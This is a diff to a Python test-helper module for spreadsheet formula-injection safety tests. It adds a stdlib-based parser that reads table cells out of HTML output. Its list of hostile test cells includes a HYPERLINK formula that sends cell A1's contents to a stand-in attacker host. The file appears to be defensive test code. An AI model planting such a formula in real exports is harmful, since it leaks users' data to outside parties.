@@ -1,5 +1,7 @@
 """The cells every formula-safety test uses, whatever the output (one list, so no output
-is tested on an easier set than another)."""
+is tested on an easier set than another), and a reader of the cells of HTML output."""
+
+from html.parser import HTMLParser
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
@@ -29,3 +31,33 @@ def _number(text: str) -> bool:
     except ValueError:
         return False
     return True
+
+
+class _Cells(HTMLParser):
+    """Text of every <td>/<th>, read with the stdlib parser (not the app's)."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.cells: list[str] = []
+        self._in = False
+
+    def handle_starttag(self, tag, attrs):
+        if tag in ("td", "th"):
+            self._in = True
+            self.cells.append("")
+        elif tag == "br" and self._in:
+            self.cells[-1] += "\n"
+
+    def handle_endtag(self, tag):
+        if tag in ("td", "th"):
+            self._in = False
+
+    def handle_data(self, data):
+        if self._in:
+            self.cells[-1] += data
+
+
+def html_cells(text: str) -> list[str]:
+    p = _Cells()
+    p.feed(text)
+    return p.cells
